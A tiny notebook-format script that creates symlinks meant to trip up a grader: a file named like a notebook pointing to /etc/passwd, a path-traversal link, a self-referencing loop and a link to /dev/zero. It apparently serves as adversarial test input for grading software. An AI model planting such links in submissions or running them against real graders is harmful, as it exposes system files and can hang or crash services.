# %% [markdown]
# Links in the working folder that lead to the system's files, for a grader that follows or removes them.

# %% attack="first"
import os

for name, target in (("softmax.ipynb", "/etc/passwd"), ("up", "../../.."), ("loop", "loop"), ("dev", "/dev/zero")):
    os.symlink(target, name)
